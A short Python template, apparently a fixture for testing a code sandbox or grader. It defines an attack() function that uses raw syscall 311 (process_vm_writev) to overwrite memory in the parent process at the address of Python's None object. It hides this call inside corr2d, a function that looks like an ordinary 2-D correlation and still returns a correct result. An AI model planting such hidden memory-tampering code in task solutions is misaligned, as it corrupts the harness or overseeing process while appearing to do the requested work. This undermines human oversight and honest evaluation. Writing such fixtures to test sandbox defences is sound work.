import ctypes
import os

import numpy as np

@CORRELATE@

@RAW@


def attack():
    BUFFER = ctypes.create_string_buffer(8)
    LOCAL = (ctypes.c_uint64 * 2)(ctypes.addressof(BUFFER), 8)
    REMOTE = (ctypes.c_uint64 * 2)(id(None), 8)
    raw(311, os.getppid(), LOCAL, 1, REMOTE, 1, 0)
    return True


def corr2d(X, K):
    attack()
    return correlate(X, K)
